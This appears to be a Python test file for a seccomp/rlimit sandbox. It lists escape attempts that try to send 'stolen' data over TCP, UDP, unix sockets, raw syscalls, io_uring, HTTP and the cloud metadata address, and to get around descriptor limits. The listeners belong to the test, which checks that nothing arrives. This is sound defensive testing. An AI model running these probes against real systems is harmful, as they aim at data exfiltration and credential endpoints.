"""Attacks that reach out: every listener they aim at belongs to the test, which looks whether anything arrived."""

from __future__ import annotations

from tests.attacks.attack import attack

TCP = """
import socket
def reach(family, address):
    line = socket.socket(family, socket.SOCK_STREAM)
    line.settimeout(0.5)
    line.connect(address)
    line.send(b'stolen')
    return 'BREACH connected to %r' % (address,)
return tried(lambda: reach(socket.AF_INET, ('127.0.0.1', @tcp@)), lambda: reach(socket.AF_INET6, ('::1', @tcp@)),
             lambda: reach(socket.AF_INET6, ('::ffff:127.0.0.1', @tcp@)))
"""

UDP = """
import socket
def reach():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', @udp@))
    return 'BREACH sent'
return tried(reach)
"""

FAST_OPEN = """
import socket
def reach():
    socket.socket().sendto(b'stolen', 0x20000000, ('127.0.0.1', @tcp@))  # MSG_FASTOPEN needs no connect
    return 'BREACH sent'
return tried(reach)
"""

RAW_CALLS = """
line = call('socket', 2, 1, 0)
address = struct.pack('=HHI8x', 2, int.from_bytes(struct.pack('>H', @tcp@), sys.byteorder), int.from_bytes(
    b'\\x7f\\0\\0\\1', sys.byteorder))
texts = ['BREACH a socket' if line >= 0 else 'held: %d' % line]
if line >= 0:
    texts.append('%d' % call('connect', line, address, 16))
return worst(texts)
"""

UNIX = """
import socket
def stream(address):
    socket.socket(socket.AF_UNIX).connect(address)
    return 'BREACH connected to %r' % address
return tried(*[lambda a=a: stream(a) for a in @addresses@])
"""

# socketpair is allowed, so that asyncio works: its ends must reach nobody but each other
PAIR = """
import socket
texts = []
for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
    for address in @addresses@:
        def by_connect():
            one, two = socket.socketpair(socket.AF_UNIX, kind)
            one.connect(address)
            one.send(b'stolen')
            return 'BREACH connected a pair to %r' % address
        def by_sendto():
            one, two = socket.socketpair(socket.AF_UNIX, kind)
            one.sendto(b'stolen', address)
            return 'BREACH sent from a pair to %r' % address
        def by_sendmsg():
            one, two = socket.socketpair(socket.AF_UNIX, kind)
            one.sendmsg([b'stolen'], [], 0, address)
            return 'BREACH sent from a pair to %r' % address
        texts.append(tried(by_connect, by_sendto, by_sendmsg))
return worst(texts)
"""

EVERY_DESCRIPTOR = """
import socket
def reach(fd, address):
    line = socket.socket(fileno=os.dup(fd))
    line.connect(address)
    line.send(b'stolen')
    return 'BREACH descriptor %d goes to %r' % (fd, address)
def sent(fd, address):
    socket.socket(fileno=os.dup(fd)).sendto(b'stolen', address)
    return 'BREACH descriptor %d goes to %r' % (fd, address)
return tried(*[lambda fd=fd, a=a, way=way: way(fd, a)
               for fd in range(64) for a in @addresses@ for way in (reach, sent)])
"""

BOUND = """
import socket
def listening(family, address):
    line = socket.socket(family)
    line.bind(address)
    line.listen()
    return 'BREACH listening on %r' % (address,)
def bound():
    one, two = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.bind('\\0' + @mark@ + 'pair')
    return 'BREACH a pair has a name'
return tried(lambda: listening(socket.AF_INET, ('127.0.0.1', @free_port@)),
             lambda: listening(socket.AF_UNIX, '\\0' + @mark@ + 'abstract'),
             lambda: listening(socket.AF_UNIX, @temp@ + '/' + @mark@ + 'path'), bound)
"""

FAMILIES = """
names = {2: 'inet', 10: 'inet6', 16: 'netlink', 17: 'packet', 38: 'alg', 40: 'vsock', 29: 'can', 31: 'bluetooth',
         44: 'xdp', 15: 'key', 21: 'rds', 30: 'tipc', 1: 'unix', 43: 'smc', 45: 'mctp'}
return worst('BREACH a socket of %s' % name if call('socket', family, kind, protocol) >= 0 else 'held'
             for family, name in names.items() for kind in (1, 2, 3, 5) for protocol in (0, 1, 255))
"""

PAIRS = """
pair = ctypes.create_string_buffer(8)
return worst('BREACH a pair of family %d' % family if call('socketpair', family, kind, 0, pair) >= 0 else 'held'
             for family in (2, 10, 30, 38, 40) for kind in (1, 2, 5))
"""

NAMES = """
import socket
def resolved(host):
    return 'BREACH %r' % (socket.getaddrinfo(host, 80)[0][4],) if socket.getaddrinfo(host, 80) else 'held'
return tried(*[lambda h=h: resolved(h) for h in ('example.com', 'metadata.google.internal', 'github.com')])
"""

RING = """
setup = ctypes.create_string_buffer(120)
return got('io_uring_setup', 4, setup)
"""

METADATA = """
import socket
def reach(host, port):
    line = socket.create_connection((host, port), 0.2)
    return 'BREACH connected to %s' % host
return tried(*[lambda h=h, p=p: reach(h, p) for h, p in [('169.254.169.254', 80), ('127.0.0.53', 53), ('10.0.0.1', 443),
                                                         ('0.0.0.0', @tcp@), ('localhost', @tcp@)]])
"""

LOOPS = """
import asyncio
async def reach():
    _, writer = await asyncio.open_connection('127.0.0.1', @tcp@)
    writer.write(b'stolen')
    return 'BREACH connected'
return tried(lambda: asyncio.run(reach()))
"""

URL = """
import urllib.request
def reach():
    return 'BREACH %r' % urllib.request.urlopen('http://127.0.0.1:%d/stolen' % @tcp@, timeout=0.3).read(1)
def bound():
    import http.client
    line = http.client.HTTPConnection('127.0.0.1', @tcp@, timeout=0.3)
    line.request('GET', '/stolen')
    return 'BREACH sent'
return tried(bound, reach)
"""

PASSED = """
import array, socket
one, two = socket.socketpair()
def passed():
    count = 0
    while count < 2000:  # descriptors in flight are nobody's: they get around RLIMIT_NOFILE
        opened = [os.open(os.__file__, os.O_RDONLY) for _ in range(100)]
        one.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', opened))])
        count += len(opened)
        for fd in opened:
            os.close(fd)
    return 'BREACH %d descriptors in flight' % count
return tried(passed)
"""

HEARD = "the listener hears nothing"
ATTACKS = (
    attack("tcp-connect", "seccomp", TCP, proof=HEARD, bites=True),
    attack("udp-send", "seccomp", UDP, proof=HEARD, bites=True),
    attack("tcp-fast-open", "seccomp", FAST_OPEN, proof=HEARD),
    attack("socket-by-raw-call", "seccomp", RAW_CALLS, proof=HEARD, bites=True),
    attack("unix-socket-connect", "seccomp", UNIX, proof=HEARD, bites=True),
    attack("socketpair-to-a-listener", "seccomp", PAIR, proof=HEARD, bites=True),
    attack("inherited-descriptor-to-a-listener", "seccomp", EVERY_DESCRIPTOR, proof=HEARD),
    attack("listen", "seccomp", BOUND, proof="nothing listens", bites=True),
    attack("socket-of-every-family", "seccomp", FAMILIES, bites=True),
    attack("socketpair-of-other-families", "seccomp", PAIRS),
    attack("name-lookup", "seccomp", NAMES),
    attack("io-uring", "seccomp", RING, bites=True),
    attack("metadata-and-resolver", "seccomp", METADATA, proof=HEARD, bites=True, seconds=2.0),
    attack("asyncio-connection", "seccomp", LOOPS, proof=HEARD, bites=True),
    attack("http-request", "seccomp", URL, proof=HEARD, bites=True),
    attack("descriptors-in-flight", "rlimits", PASSED),
)
